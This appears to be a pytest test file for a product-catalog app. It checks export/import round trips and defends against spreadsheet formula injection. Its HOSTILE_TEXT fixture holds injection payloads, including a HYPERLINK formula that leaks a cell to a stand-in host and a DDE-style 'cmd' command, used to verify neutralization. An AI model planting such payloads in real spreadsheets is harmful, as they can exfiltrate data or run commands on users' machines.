"""For any valid catalog, exporting it and importing the file gives the same products back.

CSV and TSV are written for spreadsheets: a text cell that a spreadsheet would run as a formula
comes back with the single quote that keeps it text, and nothing else changes; a second round
trip then changes nothing at all. XLSX, JSON and Parquet give back the exact text.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from catalog_app.io.catalog import load_bundled_catalog, load_catalog
from catalog_app.io.cell_safety import neutralize
from catalog_app.io.export import EXPORT_SUFFIXES, export_catalog
from catalog_app.model.catalog_frame import typed_column
from catalog_app.model.schema import COLUMN_BY_NAME, COLUMNS, Kind

# Printable text a shop might type, including the characters that need quoting or look like
# formulas; no leading or trailing spaces (cells are trimmed) and no invisible characters.
TEXT = (
    st.text(
        alphabet=st.characters(
            codec="utf-8",
            categories=("L", "N", "P", "S", "Zs"),
            exclude_characters="\u2028\u2029\u00a0\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\ufeff",
        ),
        min_size=1,
        max_size=30,
    )
    .map(str.strip)
    .filter(bool)
)
# Cells that spreadsheets read as formulas: the same text back (CSV/TSV: with the quote in front).
TEXT = st.one_of(TEXT, st.tuples(st.sampled_from("=+-@"), TEXT).map("".join))
PRICE = st.decimals(min_value="0.01", max_value="5000", places=2).map(str)
MONTHS = st.integers(min_value=1, max_value=60)


def cell(spec_name: str, kind: Kind, required: bool, choices: tuple[str, ...]) -> st.SearchStrategy[str]:
    if kind is Kind.CHOICE:
        values = st.sampled_from(choices)
        return values if required else st.one_of(st.just(""), values)
    if kind is Kind.CHOICES:
        return st.lists(st.sampled_from(choices), min_size=1 if required else 0, unique=True).map(";".join)
    if kind is Kind.FLAG:
        return st.sampled_from(["true", "false", "yes", "no", "1", "0", ""])
    if kind is Kind.NUMBER:
        number = PRICE if spec_name in ("price", "assessment_fee", "thickness_mm", "weight_g") else MONTHS.map(str)
        return number if required else st.one_of(st.just(""), number)
    if kind is Kind.CURRENCY:
        return st.sampled_from(["USD", "EUR", "GBP", "CHF"])
    return TEXT if required else st.one_of(st.just(""), TEXT)


def column_strategy() -> dict[str, st.SearchStrategy[str]]:
    out = {}
    for spec in COLUMNS:
        if spec.kind is Kind.ID:
            continue
        choices = tuple(member.value for member in spec.choices) if spec.choices else ()
        out[spec.name] = cell(spec.name, spec.kind, spec.required, choices)
    out["lifespan_months_max"] = st.just("")  # a range needs max >= min; covered by the bundled catalog
    return out


ROWS = st.lists(st.fixed_dictionaries(column_strategy()), min_size=1, max_size=8)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=ROWS, suffix=st.sampled_from(EXPORT_SUFFIXES))
def test_export_then_import_gives_the_same_products(tmp_path: Path, rows: list[dict[str, str]], suffix: str) -> None:
    source = tmp_path / "source.csv"
    header = [spec.name for spec in COLUMNS]
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        for number, row in enumerate(rows):
            writer.writerow([f"p-{number:03d}" if name == "id" else row[name] for name in header])
    original = load_catalog(source, invalid_rows="reject-file")
    exported = export_catalog(original.frame, tmp_path / f"exported{suffix}")
    again = load_catalog(exported, invalid_rows="reject-file")
    assert again.report.is_clean
    if suffix in SPREADSHEET_TEXT:
        assert again.frame.equals(as_a_spreadsheet_keeps_it(original.frame))
        # The quoted text is safe as it is: exported again, the file is the same.
        second = export_catalog(again.frame, tmp_path / f"second{suffix}")
        assert second.read_bytes() == exported.read_bytes()
    else:
        assert again.frame.equals(original.frame)


SPREADSHEET_TEXT = (".csv", ".tsv")
TEXT_COLUMNS = [spec.name for spec in COLUMNS if spec.kind in (Kind.ID, Kind.TEXT)]


def as_a_spreadsheet_keeps_it(frame: pd.DataFrame) -> pd.DataFrame:
    """The catalog as a CSV/TSV export gives it back: formula-like text cells quoted, nothing else."""
    expected = frame.copy()
    for name in TEXT_COLUMNS:
        expected[name] = typed_column(COLUMN_BY_NAME[name], expected[name].astype(str).map(neutralize).to_numpy())
    return expected


@pytest.mark.parametrize("suffix", EXPORT_SUFFIXES)
def test_the_bundled_catalog_survives_every_format(tmp_path: Path, suffix: str) -> None:
    catalog = load_bundled_catalog()
    again = load_catalog(export_catalog(catalog.frame, tmp_path / f"catalog{suffix}"), invalid_rows="reject-file")
    assert again.frame.equals(catalog.frame)


HOSTILE_TEXT = {
    "name": '=HYPERLINK("https://example.invalid/?leak="&A1,"Click for the price")',
    "brand": "@SUM(1+1)",
    "description": "+1+cmd|' /C calc'!A0",
    "care": "-2+3",
}


def hostile_catalog_frame() -> pd.DataFrame:
    frame = load_bundled_catalog().frame.copy()
    for column, text in HOSTILE_TEXT.items():
        cells = frame[column].astype(str).to_numpy(dtype=object)
        cells[0] = text
        frame[column] = typed_column(COLUMN_BY_NAME[column], cells)  # as a catalog file would give it
    return frame


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_csv_and_tsv_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path, suffix: str) -> None:
    path = export_catalog(hostile_catalog_frame(), tmp_path / f"catalog{suffix}")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter="\t" if suffix == ".tsv" else ","))
    for column, text in HOSTILE_TEXT.items():
        assert rows[0][column] == "'" + text
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_xlsx_export_keeps_formula_like_text_as_text_cells(tmp_path: Path) -> None:
    from zipfile import ZipFile

    from openpyxl import load_workbook

    path = export_catalog(hostile_catalog_frame(), tmp_path / "catalog.xlsx")
    sheet = load_workbook(path).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    for column, text in HOSTILE_TEXT.items():
        cell = sheet.cell(row=2, column=header.index(column) + 1)
        assert (cell.value, cell.data_type) == (text, "s")
    with ZipFile(path) as workbook:
        sheets = [name for name in workbook.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in workbook.read(name) or b"<f " in workbook.read(name) for name in sheets)
